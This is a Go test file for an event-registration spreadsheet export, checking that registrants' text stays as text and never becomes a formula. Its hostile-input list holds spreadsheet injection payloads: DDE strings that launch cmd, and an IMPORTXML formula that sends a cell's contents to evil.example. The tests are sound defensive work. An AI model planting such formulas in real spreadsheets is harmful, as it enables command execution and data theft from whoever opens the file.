package export_test

import (
	"errors"
	"fmt"
	"path/filepath"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
	"golang.org/x/text/unicode/norm"

	"github.com/temadag/temadag/internal/domain"
)

// hostile are texts that have been used to make spreadsheets do things, or to break them.
func hostile() []string {
	return []string{
		`=1+1`, `=HYPERLINK("http://evil.example","Klicka")`, `=cmd|' /C calc'!A0`, `+46701740605`, `-1+2`,
		`@SUM(A1:A9)`, "\t=1+1", "\r=1+1", "\n=1+1", `＝1+1`, `＋1`, `－1`, `＠A1`, `"=1+1`, `'=1+1`, `=`, ` =1`,
		`=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")`, `=DDE("cmd";"/C calc";"x")`, "00123", "1.23E+09", "1e5",
		"TRUE", "#REF!", "2016-12-01", "_x0041_", "_x005F_", "<f>1+1</f>", "]]>", "&amp;", "a\x00b\x0bc", "_x0041_x0042_", "__x0041__", "_x005F_x0041_", "_x000D_", "_x00e5", "_x", "två\nrader ", " < > \" ' & ]]> <!-- <![CDATA[", "\ufffe\uffff", "bad\xff\xfeutf8",
	}
}

func TestWorkbook_textStaysText(t *testing.T) {
	var people []domain.Registration
	for i, text := range hostile() {
		r := person(1, i)
		r.FamilyName, r.GivenName, r.Organisation, r.Title, r.Municipality = text, text, text, text, text
		r.Email, r.Phone, r.OrganisationType = text, text, domain.OrganisationType(text)
		r.Answers = []domain.Answer{{QuestionID: 11, Values: []string{text}}, {QuestionID: 12, Values: []string{text}}}
		people = append(people, r)
	}
	e := lulea()
	e.Title = domain.Text{Sv: `=HYPERLINK("http://evil.example")`}
	e.Town, e.CaseNumber, e.Retention.Support = "=1+1", "=2+2", "@SUM(1)"
	e.Questions[0].Label = domain.Text{Sv: "+1"}
	path := writtenTo(t, listOf(e), map[domain.EventID][]domain.Registration{1: people}, domain.Swedish)
	for name, xml := range partsOf(t, path) {
		if strings.HasPrefix(name, "xl/worksheets/") && (strings.Contains(xml, "<f>") || strings.Contains(xml, "<f ")) {
			t.Errorf("%s holds a formula", name)
		}
	}
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows := rowsIn(t, f, f.GetSheetName(1))
	for i, text := range hostile() {
		for _, column := range []string{"Efternamn", "Organisation", "Telefon", "Kommun"} {
			if got, want := at(t, rows[0], rows[i+1], column), legal(text); got != want {
				t.Errorf("%s is %q, want %q", column, got, want)
			}
		}
		cell := fmt.Sprintf("B%d", i+2)
		if kind, _ := f.GetCellType(f.GetSheetName(1), cell); legal(text) != "" && kind != excelize.CellTypeInlineString {
			t.Errorf("%q is written as %v and not as text", text, kind)
		}
	}
}

// TestWorkbook_formulaTwin shows that the search for formulas finds one that excelize was given.
func TestWorkbook_formulaTwin(t *testing.T) {
	f := excelize.NewFile()
	defer f.Close()
	path := filepath.Join(t.TempDir(), "twin.xlsx")
	if err := errors.Join(f.SetCellFormula("Sheet1", "A1", "=1+1"), f.SaveAs(path)); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(partsOf(t, path)["xl/worksheets/sheet1.xml"], "<f>") {
		t.Error("a formula is not found; the test of text would prove nothing")
	}
}

// legal is what may remain of s in XML.
func legal(s string) string {
	s = strings.NewReplacer("\r", "\n", "\x00", "", "\x0b", "", "\ufffe", "", "\uffff", "").Replace(strings.ToValidUTF8(s, ""))
	return norm.NFC.String(s)
}

func TestWorkbook_cutsWhatNoCellTakes(t *testing.T) {
	r := person(1, 0)
	r.Answers = []domain.Answer{{QuestionID: 11, Values: []string{strings.Repeat("å😀", 20_000)}}}
	f := written(t, listOf(lulea()), map[domain.EventID][]domain.Registration{1: {r}}, domain.Swedish)
	rows := rowsIn(t, f, "2016-12-01 Luleå")
	got := at(t, rows[0], rows[1], "Kommer du till lunchen?")
	if !strings.HasSuffix(got, " … (texten är avkortad)") {
		t.Errorf("the end of the long text is %q", got[len(got)-40:])
	}
	units := 0
	for _, c := range got {
		if units++; c > 0xffff {
			units++
		}
	}
	if units > excelize.TotalCellChars || units < excelize.TotalCellChars-2 {
		t.Errorf("the text is %d long", units)
	}
}

func TestWorkbook_namesOfEveryKind(t *testing.T) {
	names := []string{"Oŋŋá", "Åhrén", "Ŧuođđar", "Šžč", "Ïñâõ", "D'Arcy-Öberg", "O", "A\u030angstro\u0308m", "Müller", "Øverland", "Æsir"}
	var people []domain.Registration
	for i, name := range names {
		r := person(1, i)
		r.FamilyName = name
		people = append(people, r)
	}
	f := written(t, listOf(lulea()), map[domain.EventID][]domain.Registration{1: people}, domain.Swedish)
	rows := rowsIn(t, f, "2016-12-01 Luleå")
	for i, name := range names {
		if got, want := at(t, rows[0], rows[i+1], "Efternamn"), norm.NFC.String(name); got != want {
			t.Errorf("%q reads %q", want, got)
		}
	}
}
